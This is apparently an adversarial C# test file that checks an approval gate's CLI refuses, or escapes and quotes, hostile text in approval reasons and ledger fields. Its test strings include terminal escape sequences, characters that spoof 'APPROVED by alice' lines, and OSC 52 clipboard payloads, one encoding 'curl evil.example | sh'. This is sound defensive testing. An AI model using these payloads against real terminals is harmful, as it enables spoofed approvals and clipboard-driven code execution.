using System.Text.Json.Nodes;
using McpGate.Core.Approvals;
using McpGate.Core.Changes;
using McpGate.Core.Engine;

namespace McpGate.Adversarial.Tests.Terminal;

/// <summary>
/// Text from one human (or a cluster) never controls another human's terminal: refused at
/// entry, and when it is in the ledger anyway, printed escaped, quoted and attributed.
/// </summary>
public sealed class HostileTextTests
{
    public static TheoryData<string, string> HostileReasons => new()
    {
        { "U+001B", "looks fine\u001b[2J\u001b[Hstate: verified" },
        { "U+001B", "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007" },
        { "U+001B", "\u001b]8;;https://evil.example\u001b\\docs\u001b]8;;\u001b\\" },
        { "U+009B", "no\u009b2K" },
        { "U+000D", "bad change\rAPPROVED by alice" },
        { "U+0008", "rejected\b\b\b\b\b\b\b\bAPPROVED" },
        { "U+202E", "ok \u202Edevorppa" },
        { "U+200D", "al\u200Dice" },
        { "U+3164", "\u3164" },
        { "U+2800", "\u2800\u2800" },
    };

    /// <summary>What bob could have stored through an older client (signed with his real key).</summary>
    private const string StoredReason = "\u001b[2J\u001b[HAPPROVED by alice\r\nstate: verified\u001b]52;c;ZWNobyBwd25lZA==\u0007\u202E";

    [Theory]
    [MemberData(nameof(HostileReasons))]
    public async Task DenyAndApprove_WithControlOrInvisibleCharacters_AreRefusedAtEntry_AndNothingIsRecorded(string character, string text)
    {
        await using var gate = await TerminalGate.StartAsync();
        var change = await gate.Harness.ProposeScaleAsync(4);

        var deny = await gate.DecideAsync("deny", change.Id, "bob", "--reason", text);
        var approve = await gate.DecideAsync("approve", change.Id, "alice", "--comment", text);

        deny.ExitCode.Should().Be(2, deny.ToString());
        deny.StandardError.Should().Contain($"--reason contains {character}");
        approve.ExitCode.Should().Be(2, approve.ToString());
        approve.StandardError.Should().Contain($"--comment contains {character}");
        TerminalGate.ShouldBeTerminalSafe(deny);
        TerminalGate.ShouldBeTerminalSafe(approve);
        (await gate.SqlScalarAsync($"SELECT count(*) FROM ledger WHERE change_id = '{change.Id}' AND event_type = '{LedgerEvents.ApprovalSubmitted}';")).Should().Be("0");
        (await gate.SqlScalarAsync($"SELECT state FROM changes WHERE change_id = '{change.Id}';")).Should().Be("pending_approval");
    }

    [Fact]
    public async Task StoredRejectionReason_WithEscapes_IsShownEscapedQuotedAndAttributed_ByApproveShowAndList()
    {
        await using var gate = await TerminalGate.StartAsync();
        var change = await gate.Harness.ProposeScaleAsync(4);
        await RecordAsOlderClientAsync(gate, change, "bob", ApprovalDecision.Reject, StoredReason);
        const string Shown = "bob's reason: \"\\u001b[2J\\u001b[HAPPROVED by alice\\u000d\\u000astate: verified\\u001b]52;c;ZWNobyBwd25lZA==\\u0007\\u202e\"";

        var pending = await gate.DecideAsync("approve", change.Id, "alice");

        pending.ExitCode.Should().Be(2, pending.ToString());
        pending.StandardError.Should().Contain($"already rejected by bob; {Shown}");
        TerminalGate.ShouldBeTerminalSafe(pending);

        await gate.Harness.Engine.ProcessAsync();
        (await gate.SqlScalarAsync($"SELECT state FROM changes WHERE change_id = '{change.Id}';")).Should().Be("rejected");
        var settled = await gate.DecideAsync("approve", change.Id, "alice");
        var show = await gate.ShowAsync(change.Id);
        var list = await gate.ListAllAsync();

        settled.ExitCode.Should().Be(2, settled.ToString());
        settled.StandardError.Should().Contain(Shown);
        show.ExitCode.Should().Be(0, show.ToString());
        show.StandardOutput.Should().Contain($"rejected by bob; {Shown}");
        list.ExitCode.Should().Be(0, list.ToString());
        list.StandardOutput.Should().Contain(change.Id);
        foreach (var run in new[] { settled, show, list })
        {
            TerminalGate.ShouldBeTerminalSafe(run);
            ImitationsAreNeverStatusLines(run);
        }

        (await gate.SqlScalarAsync($"SELECT count(*) FROM ledger WHERE change_id = '{change.Id}' AND event_type = '{LedgerEvents.ApprovalSubmitted}';"))
            .Should().Be("1", "only bob's old rejection is recorded; alice's attempts wrote nothing");
    }

    [Fact]
    public async Task TextInjectedIntoTheLedger_InEveryShownField_PrintsNoControlByte_AndIsQuoted()
    {
        await using var gate = await TerminalGate.StartAsync();
        var change = await gate.Harness.ProposeScaleAsync(4);
        var other = await gate.Harness.ProposeScaleAsync(5, name: "api");
        await gate.SqlAsync($"""
            UPDATE changes SET state = 'failed', document = json_set(document,
              '$.state', 'failed',
              '$.outcome', 'not executed: the API server said: ' || char(27) || '[2K' || char(13) || 'state: verified',
              '$.reason', 'capacity' || char(27) || ']8;;https://evil.example' || char(7) || 'docs' || char(10) || 'APPROVED by alice',
              '$.summary', 'demo/web' || char(155) || '1A' || char(8238) || ' 2 -> 5',
              '$.requester', 'agent' || char(27) || '[8m',
              '$.checks[0].detail', 'fine' || char(27) || '[1A' || char(12644),
              '$.diff[0].to', 'x' || char(27) || '[31m',
              '$.policy.reason', 'allowed' || char(0x2800) || char(0x200D),
              '$.policy.rule', 'rule' || char(0xE0041))
            WHERE change_id = '{change.Id}';
            """);

        var show = await gate.ShowAsync(change.Id);
        var list = await gate.ListAllAsync();
        var approve = await gate.DecideAsync("approve", change.Id, "alice");
        var approveOther = await gate.DecideAsync("approve", other.Id, "alice");

        show.ExitCode.Should().Be(1, "the edited row no longer says what its ledger entries say: " + show);
        show.StandardError.Should().Contain("disagrees with its ledger entries, so what follows cannot be trusted");
        show.StandardOutput.Should().Contain("as recorded: \"not executed: the API server said: \\u001b[2K\\u000dstate: verified\"")
            .And.Contain("'s reason: \"capacity\\u001b]8;;https://evil.example\\u0007docs\\u000aAPPROVED by alice\"")
            .And.Contain("\\u009b1A\\u202e");
        list.ExitCode.Should().Be(0, list.ToString());
        list.StandardOutput.Should().Contain(change.Id).And.Contain(other.Id).And.Contain("\\u009b1A\\u202e");
        approve.ExitCode.Should().Be(2, approve.ToString());
        approve.StandardError.Should().Contain("recorded outcome: \"not executed: the API server said: \\u001b[2K\\u000dstate: verified\"");
        approveOther.ExitCode.Should().Be(0, approveOther.ToString());
        approveOther.StandardOutput.Should().Contain($"Recorded alice's approval of {other.Id}");
        foreach (var run in new[] { show, list, approve, approveOther })
        {
            TerminalGate.ShouldBeTerminalSafe(run);
            ImitationsAreNeverStatusLines(run);
        }
    }

    private static void ImitationsAreNeverStatusLines(McpGate.Testing.Processes.ProcessResult run)
    {
        foreach (var line in (run.StandardOutput + "\n" + run.StandardError).Split('\n'))
        {
            line.TrimStart().Should().NotStartWith("APPROVED").And.NotStartWith("state:", run.ToString());
        }
    }

    /// <summary>Signs with the approver's real key and appends without the submitter's text rules, as a client from before them did.</summary>
    private static async Task RecordAsOlderClientAsync(TerminalGate gate, ChangeDocument change, string identity, string decision, string comment)
    {
        var key = gate.Harness.Key(identity);
        var envelope = ApprovalSigner.Sign(new ApprovalRequest
        {
            ChangeId = change.Id,
            ProofDigest = change.ProofDigest!,
            Decision = decision,
            Approver = identity,
            Comment = comment,
            SignedAt = gate.Harness.Clock.GetUtcNow(),
        }, key).ToJson();
        await gate.Harness.Ledger.AppendEventAsync(change.Id, ChangeState.PendingApproval, LedgerEvents.ApprovalSubmitted, new JsonObject
        {
            ["identity"] = identity,
            ["decision"] = decision,
            ["keyId"] = key.PublicKey.KeyId,
            ["envelope"] = envelope,
        });
    }
}
